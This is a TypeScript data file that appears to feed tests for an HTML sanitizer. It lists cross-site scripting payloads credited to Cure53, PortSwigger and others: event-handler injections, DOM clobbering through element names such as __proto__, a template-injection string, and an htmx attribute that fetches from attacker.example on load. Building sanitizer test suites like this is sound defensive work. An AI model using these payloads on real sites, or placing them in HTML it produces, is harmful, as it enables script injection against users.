import type { Attack } from './attack';

/** Attributes and elements with the names of JavaScript, or that change what the page is. */
export const attributes: readonly Attack[] = [
  [
    'a prototype',
    '<p __proto__="x" constructor="y" prototype="z" onclick=alert(1)>x</p>',
    'Cure53',
  ],
  ['an element named constructor', '<constructor onclick=alert(1)>x</constructor>', 'Cure53'],
  [
    'an element named __proto__',
    '<__proto__ onclick=alert(1)>x</__proto__><a onclick=alert(1)>x</a>',
    'Cure53',
  ],
  [
    'an element named hasOwnProperty',
    '<hasOwnProperty onclick=alert(1)>x</hasOwnProperty>',
    'Cure53',
  ],
  ['an element named toString', '<toString onclick=alert(1)>x</toString>', 'Cure53'],
  [
    'attributes of the parser',
    '<form onclick=alert(1)><input name=attributes><input name=removeAttribute>x</form>',
    'Cure53',
  ],
  ['names like numbers', '<p 0=a 1=b 2=c length=3 onclick=alert(1)>x</p>', 'Cure53'],
  ['an attribute with a bracket', '<p a<b=c onclick=alert(1) d"e=f>x</p>', 'HTML'],
  ['an attribute with an equals sign', '<p =onclick=alert(1) onclick=alert(1)>x</p>', 'HTML'],
  [
    'a role',
    '<p role="alert" aria-live="assertive" aria-label="Connexion" onclick=alert(1)>x</p>',
    'ours',
  ],
  [
    'a text that can be edited',
    '<p contenteditable autofocus onfocus=alert(1)>x</p>',
    'PortSwigger',
  ],
  ['an access key', '<p accesskey="x" onclick="alert(1)">x</p>', 'PortSwigger'],
  [
    'a custom element',
    '<p is="x-y" slot=z part=w exportparts onclick=alert(1)>x</p>',
    'PortSwigger',
  ],
  [
    'data of a framework',
    '<p data-reactroot data-bind="x" v-html="alert(1)" x-data ng-app onclick=alert(1)>{{constructor.constructor(\'alert(1)\')()}}</p>',
    'PortSwigger',
  ],
  [
    'hypertext in attributes',
    '<a hx-get="https://attacker.example/" hx-trigger=load onclick=alert(1)>x</a>',
    'PortSwigger',
  ],
  ['a nonce', '<script nonce="x">alert(1)</script>', 'PortSwigger'],
  ['an inert page', '<p inert hidden onclick=alert(1)>x</p><p onclick=alert(1)>y</p>', 'ours'],
  [
    'a window command',
    '<button command="show-modal" commandfor="x" onclick=alert(1)>x</button>',
    'PortSwigger',
  ],
];
